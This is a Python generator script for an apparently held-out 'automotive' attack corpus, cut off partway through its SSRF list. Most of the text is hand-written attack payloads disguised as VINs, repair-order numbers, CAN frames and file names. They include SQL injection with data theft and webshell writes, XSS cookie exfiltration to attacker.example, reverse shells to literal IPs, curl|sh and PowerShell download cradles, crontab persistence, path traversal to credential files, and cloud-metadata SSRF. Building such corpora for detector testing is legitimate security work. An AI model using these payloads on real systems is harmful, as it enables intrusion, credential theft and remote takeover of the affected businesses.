"""Held-out attack corpus "automotive" (ids ha37-NNNNN).

Attack payloads hidden in the notations and fields of a dealership DMS, a
repair-shop work-order system, a fleet telematics portal and a parts
marketplace: VINs, plates, RO numbers, CAN frames, part numbers, geofence
names, photo URLs, webhook URLs, claim attachments, tuning files...

Each entry is (class, value).  class = "<context>-<technique>[+<encoding>]",
where <context> names where the vulnerable application puts the value:

  sqlstr / sqlnum / sqlparen / sqldq / sqllike / sqlorder / sqlinsert
      -> concatenated into a SQL string literal / numeric slot / parenthesised
         string / double-quoted string / LIKE pattern / ORDER BY / VALUES list
  htmlbody / htmlattr / rcdata / href / jsstring / jstemplate / style /
  markdown / svg / angular / vue / filename / jsonhtml
      -> written into an HTML page without escaping in that position
  shellarg / shellsq / shelldq / argv / wincmd / filename
      -> a shell line (unquoted, inside '...', inside "..."), an argv list
         (option injection) or a cmd.exe line
  filepath / zipentry / lfi  -> joined to a base directory and opened
  fetchurl / webhook         -> fetched server-side
  jinja / twig / freemarker / velocity / erb / smarty / mako / thymeleaf /
  spel / ognl / el / log4j / pickle / yaml / php / dotnet / jackson /
  fastjson / phar / xml / svg / json / qs / csv / jseval / pyeval / groovy /
  razor / pug / ejs / nunjucks / tornado
      -> rendered / evaluated / deserialised / parsed by that engine
  mongojson / mongoqs / mongowhere / mongoagg / couchdb / lucene
      -> merged into a NoSQL query
  logline / jsonlog / syslog / header / mailheader / smtp
      -> written to a log line, an HTTP response header, a mail header,
         an SMTP conversation
  ldapfilter / xpath -> concatenated into an LDAP filter / XPath expression
  plain-  -> a bare payload with no domain framing

Every literal was written by hand for this corpus.  The template functions
recombine small hand-written pools (field prefixes + payload tails) and apply
encodings (URL-encoding once/twice, HTML entities, unicode escapes, case
mixing, ${IFS}, alternative IPv4 notations) to hand-written base payloads.

Run:  python3 make_attacks.py   (writes attacks.jsonl next to this file)
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 3702
PREFIX = "ha37"

# ---------------------------------------------------------------------------
# SQL injection
# ---------------------------------------------------------------------------

SQLI = [
    ("sqlstr-tautology", "1HGCM82633A004352' OR 'a'='a"),
    ("sqlstr-union", "WVWZZZ3CZEE123456' UNION SELECT NULL,username,password_hash,NULL FROM dms_users-- -"),
    ("sqlstr-boolean-blind", "7XKP221' AND (SELECT COUNT(*) FROM information_schema.tables WHERE table_name='warranty_claims')>0-- -"),
    ("sqlnum-tautology", "48213 OR 1=1"),
    ("sqlnum-union", "48213 UNION ALL SELECT card_number,exp_date,cvv,NULL FROM payments"),
    ("sqlstr-time-blind", "06H905110G' AND SLEEP(5)#"),
    ("sqlstr-time-blind", "P0301'; WAITFOR DELAY '0:0:7'--"),
    ("sqlnum-stacked-time", "84210;SELECT pg_sleep(6)--"),
    ("sqlorder-conditional", "(CASE WHEN (SELECT SUBSTR(pin,1,1) FROM techs WHERE id=1)='7' THEN price ELSE mileage END)"),
    ("sqllike-union", "coil pack%' UNION SELECT table_name,NULL FROM information_schema.tables WHERE '%'='"),
    ("sqlinsert-subquery", "Fits 2015-2019 w/ 2.0T', (SELECT group_concat(email) FROM customers))-- -"),
    ("sqlstr-error-based", "ABC1234' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"),
    ("sqlstr-error-based", "1FTFW1E50JFB12345' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("sqlstr-error-based", "5YJ3E1EA7KF317000' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("sqlstr-boolean-blind", "Toyota' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='$'-- -"),
    ("sqlparen-tautology", "RO-2024-0017') OR ('x'='x"),
    ("sqlnum-time-blind", "1 AND (SELECT 1 FROM (SELECT SLEEP(4))a)"),
    ("sqlstr-stacked-update", "done'; UPDATE invoices SET total=0 WHERE ro_number=48213;--"),
    ("sqlstr-stacked-insert", "x'; INSERT INTO dms_users(login,role,pass) VALUES('svc_tmp','admin','Temp#2024');--"),
    ("sqlstr-time-blind", "P0171'||(SELECT 'a' FROM pg_sleep(5))||'"),
    ("sqlstr-concat-subquery", "Civic'||(SELECT banner FROM v$version WHERE rownum=1)||'"),
    ("sqlstr-time-blind", "Honda' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',6)--"),
    ("sqlstr-union", "x' UNION SELECT name,sql FROM sqlite_master--"),
    ("sqldq-tautology", "2018 RAV4\" OR \"\"=\""),
    ("sqlstr-comment-truncation", "svc_parts'-- -"),
    ("sqlstr-file-read", "brake pads' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("sqlstr-stacked-xpcmdshell", "x'; EXEC master..xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\o.txt';--"),
    ("sqlnum-stacked-copy-program", "1; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/x|sh'--"),
    ("sqlstr-file-write", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/vin.php'-- -"),
    ("sqlnum-union", "0 UNION SELECT @@version,user(),database()"),
    ("sqlnum-tautology+comment-space", "48213/**/OR/**/1=1"),
    ("sqlstr-union+case-comment", "WVW'/**/UnIoN/**/SeLeCt/**/1,2,concat(login,0x3a,pass)/**/FrOm/**/dms_users#"),
    ("sqlstr-error-based", "P0420' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))k FROM information_schema.columns GROUP BY k)t)-- -"),
    ("sqlparen-stacked-drop", "Yard North'); DROP TABLE geofences;--"),
    ("sqlstr-boolean-blind", "Unit 114' AND ascii(substr((SELECT pass FROM users LIMIT 1),2,1))>77-- -"),
    ("sqlorder-time-blind", "price,IF((SELECT COUNT(*) FROM users WHERE role='admin')>1,SLEEP(3),0)"),
    ("sqlstr-union-nocomma", "1FTFW1E50JFB12345' AND 1=0 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b JOIN (SELECT token FROM api_keys)c-- -"),
    ("sqlstr-error-based", "45210' AND updatexml(1,concat(0x3a,(SELECT @@datadir)),1) AND '1'='1"),
    ("sqlnum-boolean-blind", "9 AND EXISTS(SELECT 1 FROM users WHERE username LIKE 'adm%')"),
    ("sqlstr-concat-subquery", "'+(SELECT TOP 1 password FROM users)+'"),
    ("sqlstr-union", "Müller GmbH' UNION SELECT id,iban,NULL FROM customer_bank-- -"),
    ("sqlstr-error-groupby", "' GROUP BY ro.id,ro.vin HAVING 1=1--"),
    ("sqlstr-boolean-blind", "x' AND (SELECT substr(pin,1,1) FROM techs LIMIT 1)='4'--"),
    ("sqlstr-union+versioned-comment", "E85'/*!50000UNION*//*!50000SELECT*/1,user(),3-- -"),
    ("sqlinsert-multirow", "fake','0','x'),('2HGFC2F59JH000001','0',(SELECT password FROM users LIMIT 1))-- -"),
    ("sqlstr-error-conditional", "WBA3A5C55CF256985' AND (SELECT CASE WHEN (SELECT COUNT(*) FROM customers)>1000 THEN 1/0 ELSE 1 END)=1--"),
    ("sqlstr-boolean-blind", "CEL on & rough idle' OR EXISTS(SELECT * FROM users WHERE password LIKE 'a%') AND ''='"),
    ("sqlstr-file-read", "km'||pg_read_file('/etc/passwd')||'"),
    ("sqlstr-error-oracle", "tire' AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--"),
    ("sqlstr-orderby-probe", "2.0T' ORDER BY 9-- -"),
    ("sqlstr-time-blind", "8ABC123'||(SELECT SLEEP(5))||'"),
    ("sqlnum-stacked-oob-dns", r"1;DECLARE @h varchar(99);SET @h=(SELECT TOP 1 login FROM dms_users)+'.x.attacker.example';EXEC('master..xp_dirtree ''\\'+@h+'\a''')--"),
    ("sqlstr-oob-loadfile", r"x' AND LOAD_FILE(CONCAT('\\\\',(SELECT pass FROM users LIMIT 1),'.y.attacker.example\\a'))-- -"),
    ("sqlstr-boolean-blind", "1C4RJFAG0FC625797' AND (SELECT 'x' FROM users WHERE username='admin' AND LENGTH(password)>10)='x'-- -"),
    ("sqlstr-regexp-blind", "Outback' AND (SELECT password FROM users WHERE id=1) REGEXP '^[a-f]'-- -"),
    ("sqlstr-stacked-privesc", "x'; EXEC sp_addsrvrolemember 'dms_web','sysadmin';--"),
    ("sqlstr-heavy-query-blind", "Tucson' AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)>0-- -"),
    ("sqlnum-boolean-blind", "17 AND 1=(SELECT CASE WHEN SUBSTRING(@@version,1,1)='8' THEN 1 ELSE 0 END)"),
    ("sqllike-boolean-blind", "pads%' AND (SELECT COUNT(*) FROM api_keys)>0 AND '%'='"),
    ("plain-tautology", "' OR '1'='1' -- "),
    ("plain-tautology", "\" OR 1=1 -- "),
    ("plain-union", "' UNION SELECT user,password FROM mysql.user#"),
    ("plain-time-blind", "' AND SLEEP(10)-- -"),
    ("plain-stacked-drop", "'; DROP TABLE users;--"),
    ("plain-boolean", "1' AND '1'='2"),
    ("plain-union", "-1 UNION SELECT 1,2,3--"),
    ("plain-comment-truncation", "admin' #"),
    ("plain-numeric-tautology", "1 OR 1=1"),
]

SQLI_PREFIXES = ["1HGCM82633A004352", "RO-48213", "7XKP221", "06H905110G", "Unit 114", "P0420", "Yard – North Gate",
                 "coil pack", "WBA3A5C55CF256985", "Golf VII 1.6 TDI"]
SQLI_TAILS = [
    ("sqlstr-tautology", "' OR 'x'='x"),
    ("sqlstr-time-blind", "' AND SLEEP(4)-- -"),
    ("sqlstr-union", "' UNION SELECT NULL,version()-- -"),
    ("sqlparen-tautology", "') OR 1=1-- -"),
    ("sqlstr-boolean-blind", "' AND 1=(SELECT COUNT(*) FROM users WHERE role='admin')-- -"),
    ("sqlstr-error-based", "' AND 1=CAST(current_user AS int)--"),
]
SQLI_ENCODE = [
    ("sqlstr-union", "' UNION SELECT login,pass FROM dms_users-- -"),
    ("sqlstr-tautology", "RO-48213' OR '1'='1"),
    ("sqlstr-time-blind", "P0300' AND SLEEP(6)-- -"),
    ("sqlnum-union", "0 UNION SELECT login,pass,NULL FROM dms_users"),
]

# ---------------------------------------------------------------------------
# XSS
# ---------------------------------------------------------------------------

XSS = [
    ("htmlbody-script-exfil", "Clean title, 1 owner <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("htmlbody-img-onerror", "Yard – North Gate<img src=x onerror=alert(document.domain)>"),
    ("htmlbody-svg-onload", "heated seats <3 <svg onload=location='//attacker.example/?'+document.cookie>"),
    ("htmlattr-breakout-event", "\" onmouseover=\"alert(1)\" x=\""),
    ("htmlattr-breakout-autofocus", "2018 RAV4\" autofocus onfocus=\"fetch('//attacker.example/'+localStorage.token)"),
    ("htmlattr-breakout-script", "'><script src=https://attacker.example/x.js></script>"),
    ("rcdata-textarea-breakout", "P0301 cleared</textarea><script>new Image().src='//attacker.example/l?c='+document.cookie</script>"),
    ("rcdata-title-breakout", "2014 WRX STI</title><svg/onload=alert(1)>"),
    ("href-javascript-scheme", "javascript:alert(document.cookie)"),
    ("href-javascript-scheme+case", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("href-javascript-scheme+entity-tab", "java&#x09;script:alert(1)"),
    ("jsstring-breakout", "';alert(String.fromCharCode(88,83,83));//"),
    ("jsstring-backslash-breakout", "\\';alert(document.domain);//"),
    ("jsstring-script-close", "Old Blue</script><script>alert(1)</script>"),
    ("jstemplate-interpolation", "${fetch('//attacker.example/?c='+document.cookie)}"),
    ("htmlbody-details-ontoggle", "<details open ontoggle=alert(1)>P0301 misfire</details>"),
    ("htmlbody-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("htmlbody-anchor-javascript", "<a href=\"javascript:alert(1)\">see photos of the damage</a>"),
    ("htmlbody-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("htmlbody-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("htmlbody-mxss-svg-style", "<svg><style><img src=x onerror=alert(document.domain)></style></svg>"),
    ("htmlbody-marquee-onstart", "<marquee onstart=alert(1)>SALE -20% on brake pads</marquee>"),
    ("markdown-link-javascript", "See [photos](javascript:alert(document.cookie)) of the hail damage"),
    ("markdown-image-attr-breakout", "![hail](https://x.invalid/a.png\"onerror=\"alert(1))"),
    ("htmlbody-object-data-uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("htmlbody-img-atob-eval+base64", "<img src=1 onerror=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8/Yz0nK2RvY3VtZW50LmNvb2tpZSk='))>"),
    ("htmlbody-script+html-entity", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("htmlbody-script+urlenc", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("htmlbody-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("htmlbody-nested-tag-filter-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("htmlbody-img-onerror+entity", "<img src=x:x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    ("htmlbody-anchor-javascript+entity", "<a href=\"&#106;avascript:alert(1)\">VIN report</a>"),
    ("htmlbody-style-import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("htmlbody-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("htmlbody-form-phishing", "<form action=https://attacker.example/p><input name=pw type=password placeholder='Re-enter DMS password'><button>OK</button></form>"),
    ("htmlbody-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("angular-csti", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("filename-img-onerror", "\"><img src=x onerror=alert(1)>.jpg"),
    ("svg-upload-onload", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>"),
    ("htmlbody-img-onerror-exfil", "<img src=\"x\" onerror=\"this.src='//attacker.example/?'+document.cookie\">"),
    ("htmlbody-script-document-write", "<script>document.write('<img src=//attacker.example/'+btoa(document.cookie)+'>')</script>"),
    ("htmlbody-malformed-script", "<<script>alert(1);//<</script>"),
    ("htmlbody-img-onerror+case", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("htmlbody-img-slash-separators", "<img/src='x'/onerror=alert(1)>"),
    ("htmlbody-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>click</text></a></svg>"),
    ("jsonhtml-script+unicode-escape", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("jsstring-arith-breakout", "'-alert(1)-'"),
    ("jsstring-dq-breakout", "\";fetch('//attacker.example/?t='+document.cookie);//"),
    ("htmlbody-select-autofocus", "<select autofocus onfocus=alert(document.cookie)></select>"),
    ("style-breakout-script", "#c00;}</style><script>alert(1)</script>"),
    ("style-breakout-img", "red;}</style><img src=x onerror=alert(1)>"),
    ("htmlbody-iframe-javascript", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("href-javascript-comment-newline+urlenc", "javascript://dealer.example/%0aalert(document.cookie)"),
    ("htmlbody-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("htmlbody-button-formaction", "<form><button formaction=javascript:alert(1)>Submit claim</button></form>"),
    ("htmlattr-sq-breakout", "' onfocus='alert(1)' autofocus='"),
    ("htmlbody-svg-script+entity", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("htmlbody-img-onerror", "Customer: O'Reilly Auto #1123 <img src=//x onerror=import('//attacker.example/m.js')>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg/onload=alert(1)>"),
    ("plain-attr-breakout", "\"><script>alert(1)</script>"),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ("plain-attr-svg", "'><svg onload=alert(1)>"),
]

XSS_PREFIXES = ["2019 Civic EX — ", "Geofence: Site 14 ", "P0420 cat eff B1 ", "Hail damage 47 dents ",
                "Fits 2015-2019 w/ 2.0T ", "Unit 311 door open ", "Recall 23V-456 "]
XSS_TAILS = [
    ("htmlbody-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("htmlbody-svg-onload", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("htmlbody-script", "<script>alert(document.domain)</script>"),
    ("htmlbody-details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("htmlattr-breakout-event", "\" onfocus=\"alert(1)\" autofocus=\""),
]
XSS_HREF_ENTITY = ["javascript:alert(document.cookie)", "javascript:fetch('//attacker.example/'+localStorage.jwt)"]
XSS_URLENC = ["<svg onload=alert(1)>", "\"><img src=x onerror=alert(document.domain)>"]

# ---------------------------------------------------------------------------
# Command injection
# ---------------------------------------------------------------------------

CMDI = [
    ("shellarg-semicolon", "18FEF100#FFFF;id"),
    ("shellarg-semicolon-download", "7E0#0322F190; curl -s http://attacker.example/s.sh | sh"),
    ("shellarg-subst", "1HGCM82633A004352$(id)"),
    ("shellarg-backtick", "WVWZZZ3CZEE123456`uname -a`"),
    ("shellarg-and", "can0 && cat /etc/passwd"),
    ("shellarg-pipe-revshell", "can0 | nc 203.0.113.7 4444 -e /bin/sh"),
    ("shellarg-newline", "P0301\nwget -qO- http://attacker.example/p|sh"),
    ("shellsq-breakout-revshell", "ro-48213.pdf'; bash -c 'bash -i >& /dev/tcp/198.51.100.23/443 0>&1' #"),
    ("shelldq-breakout-python", "\"; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")' #"),
    ("shellarg-or-time", "192.168.10.44 || ping -c 10 127.0.0.1"),
    ("shellarg-subst-time", "$(sleep 8)"),
    ("shellarg-backtick-time", "`sleep 8`"),
    ("shellarg-ifs", "unit114;sleep${IFS}8"),
    ("shellarg-brace-expansion", "x;{cat,/etc/passwd}"),
    ("shellarg-ifs-read", "can0;cat${IFS}/etc/shadow"),
    ("shellarg-quote-split", "x;c''at /e\"t\"c/pa''sswd"),
    ("shellarg-glob-obfuscation", "x;/???/??t /???/p??s??"),
    ("shellarg-base64-decode", "a;b=$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d);sh -c \"$b\""),
    ("argv-curl-output", "--output /var/www/html/s.php http://attacker.example/s.txt"),
    ("argv-ssh-proxycommand", "-oProxyCommand=sh -c 'id>/tmp/pwn' x"),
    ("argv-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("wincmd-ampersand-time", "COM3 & ping -n 5 127.0.0.1 &"),
    ("wincmd-pipe-type", "report.pdf | type C:\\Windows\\win.ini"),
    ("wincmd-powershell-download", "x & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("shellarg-subst-exfil", "$(curl -s http://attacker.example/$(whoami))"),
    ("shellarg-backtick-dns-exfil", "`nslookup $(hostname).x.attacker.example`"),
    ("shellarg-var-slicing", "x;${PATH:0:1}bin${PATH:0:1}sh -c id"),
    ("shellarg-ansi-c-quoting", "unit114;$'\\x69\\x64'"),
    ("shellarg-newline-nc", "log_2024-06-14.csv\nnc -e /bin/sh attacker.example 4444"),
    ("shellarg-subst-inline", "18FEF100#FF$(touch /tmp/can_pwn)FF"),
    ("shellsq-breakout-download", "geofence.kml';wget http://attacker.example/k -O /tmp/k;chmod +x /tmp/k;/tmp/k;'"),
    ("shellarg-semicolon-environ", "0.0.0.0 -c 1; cat /proc/self/environ"),
    ("shellarg-and-scp", "firmware_v3.17.bin && scp /etc/dms.conf x@203.0.113.50:"),
    ("shellarg-or-post", "bogus || curl -d @/etc/passwd http://attacker.example/u"),
    ("shellarg-devtcp", "a;exec 3<>/dev/tcp/198.51.100.4/80;echo -e 'GET /c HTTP/1.0\\r\\n' >&3;cat <&3"),
    ("shellarg-perl", "x; perl -e 'system(\"id\")'"),
    ("shellarg-awk", "x; awk 'BEGIN{system(\"id\")}'"),
    ("shellarg-printf-octal", "x;$(printf '\\151\\144')"),
    ("shellarg-brace-base64", "P0420;{echo,aWQ=}|{base64,-d}|sh"),
    ("shelldq-subst", "\"$(id)\""),
    ("filename-backtick", "`cat /etc/hostname`.jpg"),
    ("shellarg-env-exfil", "x;env|curl -X POST --data-binary @- http://attacker.example/e"),
    ("shellarg-crontab-persist", "x;(crontab -l;echo '* * * * * curl -s attacker.example/c|sh')|crontab -"),
    ("shellarg-mkfifo-revshell", "unit7; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.77 443 >/tmp/f"),
    ("shellarg-backtick-inline", "VIN-`id`-report"),
    ("shellarg-newline-bash", "a\n/bin/bash -c 'id'"),
    ("shellarg-quote-insertion", "x;w'h'o'am'i"),
    ("shellarg-positional-insertion", "x;who$@ami"),
    ("shellarg-backslash-insertion", "x;\\w\\h\\o\\a\\m\\i"),
    ("shellarg-herestring-rev", "x;$(rev<<<'di')"),
    ("shellarg-rot13", "x;tr 'a-z' 'n-za-m'<<<'vq'|sh"),
    ("wincmd-certutil", "COM3 & certutil -urlcache -f http://attacker.example/t.exe %TEMP%\\t.exe & %TEMP%\\t.exe"),
    ("shellarg-busybox-nc", "x;busybox nc 203.0.113.7 4444 -e sh"),
    ("shellarg-tee-webshell", "can0; echo '<?php passthru($_GET[\"c\"]);?>' | tee /var/www/html/c.php"),
    ("argv-find-exec", "x -exec sh -c id ;"),
    ("shellarg-sed-exec", "x; sed -n '1e id' /etc/hostname"),
    ("shellarg-semicolon-implant", "18FEEE00#7AFF; curl http://198.51.100.31:8000/implant -o /dev/shm/.i; sh /dev/shm/.i"),
    ("shellarg-variable-concat", "x;a=i;b=d;$a$b"),
    ("wincmd-pipe-whoami", "report_48213.pdf | whoami /all"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subst", "$(whoami)"),
    ("plain-backtick", "`id`"),
    ("plain-and", "&& uname -a"),
    ("plain-newline", "\nid\n"),
    ("plain-semicolon-sleep", "; sleep 5"),
    ("plain-or", "|| id"),
]

CMDI_PREFIXES = ["can0", "18FEF100#FFFF", "7E0#0322F19000000000", "ro-48213.pdf", "unit114.kml", "trace_0614.asc",
                 "1HGCM82633A004352", "firmware_v3.17.bin"]
CMDI_TAILS = [
    ("shellarg-semicolon", ";cat /etc/passwd"),
    ("shellarg-subst", "$(curl -s attacker.example/i|sh)"),
    ("shellarg-backtick", "`wget -qO- 198.51.100.5/x|sh`"),
    ("shellarg-pipe", "|id"),
    ("shellarg-and", "&&sleep 9"),
    ("shellarg-or", "||uname -a"),
]
CMDI_ENCODE = ["can0;id", "x|cat /etc/passwd", "ro.pdf&&whoami", "a\nid"]
CMDI_IFS = ["x;cat /etc/passwd", "can0;curl -s attacker.example/s|sh", "x;nc 203.0.113.7 4444 -e /bin/sh"]

# ---------------------------------------------------------------------------
# Path traversal
# ---------------------------------------------------------------------------

TRAVERSAL = [
    ("filepath-dotdot", "../../../../etc/passwd"),
    ("filepath-dotdot-prefixed", "RO-48213/../../../../../etc/shadow"),
    ("filepath-dotdot-prefixed", "photos/claim_5512/../../../../../../proc/self/environ"),
    ("filepath-dotdot-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("filepath-strip-bypass", "....//....//....//etc/passwd"),
    ("filepath-dotdot+urlenc", "..%2f..%2f..%2fetc%2fpasswd"),
    ("filepath-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/hosts"),
    ("filepath-dotdot+double-urlenc", "..%252f..%252f..%252fetc%252fpasswd"),
    ("filepath-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("filepath-absolute", "/etc/passwd"),
    ("filepath-absolute-proc", "/proc/self/cmdline"),
    ("filepath-nullbyte", "../../../../var/lib/dms/config.yml%00.jpg"),
    ("filepath-tomcat-pathparam", "..;/..;/WEB-INF/web.xml"),
    ("filepath-absolute-dotdot", "/var/www/dms/../../../root/.ssh/id_rsa"),
    ("filepath-absolute-windows", "C:\\inetpub\\wwwroot\\web.config"),
    ("filepath-dotdot-backslash", "..\\..\\..\\..\\..\\Program Files\\DMS\\appsettings.json"),
    ("filepath-dotdot-prefixed", "logs/2024-06-14/../../../../home/dms/.bash_history"),
    ("filepath-dotdot-prefixed", "templates/invoice/../../../app/settings.py"),
    ("filepath-dotdot", "../../../../../../usr/local/etc/php/php.ini"),
    ("zipentry-dotdot", "../../../../opt/tomcat/webapps/ROOT/x.jsp"),
    ("filepath-dotdot-backslash+urlenc", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("filepath-dotdot+partial-urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/group"),
    ("filepath-strip-bypass", "..././..././..././etc/passwd"),
    ("filepath-absolute-dotslash", "/./././././././././etc/passwd"),
    ("filepath-unc", "\\\\203.0.113.5\\share\\ecu_dump.bin"),
    ("filepath-dotdot+mixed-urlenc", ".%2e/.%2e/.%2e/etc/passwd"),
    ("filepath-dotdot+iis-unicode", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("filepath-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252fetc%252fshadow"),
    ("filepath-dotdot-deep", "photos/../../../../../../../../../../../../etc/passwd"),
    ("filepath-absolute-procfd", "/proc/self/fd/3"),
    ("filepath-absolute-log", "/var/log/nginx/access.log"),
    ("lfi-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("filepath-double-slash", "..//..//..//etc//passwd"),
    ("filepath-mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("filepath-absolute-windows", "C:/Windows/System32/config/SAM"),
    ("filepath-dotdot-backslash", "..\\..\\..\\boot.ini"),
    ("filepath-dotdot-prefixed", "uploads/damage/claim_5512/../../../../.env"),
    ("filepath-dotdot", "../../../.git/config"),
    ("filepath-dotdot", "../../../../../../root/.aws/credentials"),
    ("filepath-nullbyte", "../../../../../../../../etc/passwd%00"),
    ("filepath-dotdot+overlong-utf8", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    ("filepath-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("filepath-dotdot-prefixed", "reflash/03G906021AB/../../../../../etc/passwd"),
    ("filepath-dotdot-prefixed", "reports/1HGCM82633A004352/../../../../etc/shadow"),
    ("lfi-file-wrapper", "file:///var/lib/dms/secrets.json"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot-windows", "..\\..\\..\\windows\\system.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dotdot", "../../../../../../../../etc/hosts"),
    ("plain-dotdot-windows", "../../windows/win.ini"),
]

TRAV_DIRS = ["photos/RO-48213", "attachments/claim_5512", "exports/fleet", "ecu_reads/03G906021AB", "logs/can0"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "root/.ssh/id_rsa", "proc/self/environ", "var/lib/dms/dms.sqlite"]

# ---------------------------------------------------------------------------
# SSRF
# ---------------------------------------------------------------------------

SSRF = [
    ("fetchurl-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("fetchurl-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("fetchurl-loopback-admin", "http://127.0.0.1:8080/admin/users"),
    ("fetchurl-loopback-redis", "http://localhost:6379/"),
    ("fetchurl-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20k%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("fetchurl-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("fetchurl-metadata+hex-ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("fetchurl-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("fetchurl-metadata+ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("fetchurl-docker-api+short-ip", "http://127.1:2375/containers/json"),
    ("fetchurl-zero-ip", "http://0/admin"),
    ("fetchurl-ipv6-loopback-consul", "http://[::1]:8500/v1/agent/self"),
    ("fetchurl-file-scheme", "file:///etc/passwd"),
    ("fetchurl-userinfo-confusion", "http://photos.dealer-cdn.example@127.0.0.1:8080/"),
    ("fetchurl-fragment-confusion", "http://127.0.0.1:8080#@photos.dealer-cdn.example/car.jpg"),
    ("fetchurl-wildcard-dns-metadata", "http://169.254.169.254.attacker.example/latest/meta-data/"),
    ("fetchurl-dns-rebinding", "http://rebind.attacker.example:8080/internal/config"),
    ("fetchurl-open-redirect-chain", "https://attacker.example/r?to=http://169.254.169.254/latest/user-data"),
    ("fetchurl-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("fetchurl-internal-elasticsearch", "http://10.0.0.12:9200/_cat/indices?v"),
    ("fetchurl-internal-router", "http://192.168.1.1/cgi-bin/luci"),
    ("fetchurl-consul-kv", "http://localhost:8500/v1/kv/?recurse"),
    ("fetchurl-etcd", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("fetchurl-kubernetes-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("fetchurl-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
